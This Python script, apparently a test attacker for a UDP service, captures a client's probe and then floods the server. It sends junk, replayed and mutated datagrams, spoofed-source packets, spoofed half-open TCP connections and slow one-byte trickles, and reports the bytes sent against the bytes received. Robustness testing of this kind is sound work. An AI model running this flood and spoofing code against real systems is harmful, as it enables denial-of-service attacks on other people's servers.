#!/usr/bin/python3 -B
"""attacker.py ADDRESS PORT SPOOFED SECONDS: somebody on the path who does to a server whatever he can without a key.

It waits for a probe to that address. Then it sends, for at least so long: junk; the probe again, as it was, with one octet changed,
from another port, and in the name of other hosts (SPOOFED and the addresses after it); SYNs in their name; and it opens
connections and sends one octet on each. Says what its own datagrams cost and brought: {"sent": octets, "received": octets}.
"""

import ipaddress
import json
import os
import random
import socket
import sys
import time

ETH_P_ALL, UDP, SPOOFED_HOSTS, CONNECTIONS_MAX = 3, 17, 8, 256
OCTETS_MIN = 2_000_000  # on a busy machine it takes longer
TRANSPARENT = {socket.AF_INET: (socket.SOL_IP, 19), socket.AF_INET6: (socket.IPPROTO_IPV6, 75)}


def udp_payload(packet, family):
    """What is behind the UDP header, or None."""
    if family == socket.AF_INET:
        ours, start = packet[0] >> 4 == 4 and packet[9] == UDP, (packet[0] & 15) * 4
    else:
        ours, start = packet[0] >> 4 == 6 and packet[6] == UDP, 40
    return (packet[start : start + 8], packet[start + 8 :]) if ours else None


def capture(address, port, family):
    wanted = ipaddress.ip_address(address).packed
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL)) as link:
        print("waiting", flush=True)
        while True:
            packet = link.recv(65536)
            found = udp_payload(packet, family) if wanted in packet[:40] else None
            if found and int.from_bytes(found[0][2:4], "big") == port and len(found[1]) > 100:
                return found[1]


def in_the_name_of(kind, family, address):
    sock = socket.socket(family, kind)
    sock.setsockopt(*TRANSPARENT[family], 1)
    sock.setblocking(False)
    sock.bind((address, 0))
    return sock


class Attacker:
    def __init__(self, address, port, spoofed):
        self.family = socket.AF_INET6 if ":" in address else socket.AF_INET
        self.to = (address, port)
        self.names = [str(ipaddress.ip_address(spoofed) + i) for i in range(SPOOFED_HOSTS)]
        self.probe = capture(address, port, self.family)
        self.own = socket.socket(self.family, socket.SOCK_DGRAM)
        self.own.setblocking(False)
        self.others = [in_the_name_of(socket.SOCK_DGRAM, self.family, name) for name in self.names]
        self.connections = []
        self.sent = self.received = 0

    def send(self, sock, packet):
        try:
            sock.sendto(packet, self.to)
            self.sent += len(packet) if sock is self.own else 0
        except OSError:  # an ICMP error, or a full buffer
            pass

    def hear(self):
        try:
            while True:
                self.received += len(self.own.recv(65536))
        except OSError:
            pass

    def datagrams(self):
        changed = bytearray(self.probe)
        changed[random.randrange(len(changed))] ^= 1 << random.randrange(8)
        for packet in (os.urandom(random.randrange(1, 1400)), self.probe, bytes(changed)):
            self.send(self.own, packet)
            self.send(random.choice(self.others), packet)
        self.hear()

    def connect(self):
        if len(self.connections) >= CONNECTIONS_MAX:
            return
        slow = socket.socket(self.family, socket.SOCK_STREAM)
        half_open = in_the_name_of(socket.SOCK_STREAM, self.family, random.choice(self.names))
        self.connections += [slow, half_open]
        for sock in (slow, half_open):
            sock.setblocking(False)
            sock.connect_ex(self.to)

    def trickle(self):
        for sock in self.connections:
            try:
                sock.send(b"\x01")
            except OSError:  # not connected, or closed by the server
                pass

    def flood(self, seconds):
        until, last = time.monotonic() + seconds, 0
        while time.monotonic() < until or self.sent < OCTETS_MIN:
            for _ in range(10):
                self.datagrams()
            for _ in range(4):  # all of them before the server ends the first: a busy machine takes its time
                self.connect()
            if time.monotonic() - last > 0.5:
                self.trickle()
                last = time.monotonic()
            time.sleep(0.01)
        time.sleep(0.1)
        self.hear()


def main(address, port, spoofed, seconds):
    attacker = Attacker(address, int(port), spoofed)
    print("flooding", flush=True)
    attacker.flood(float(seconds))
    print(json.dumps({"sent": attacker.sent, "received": attacker.received}), flush=True)


main(*sys.argv[1:])
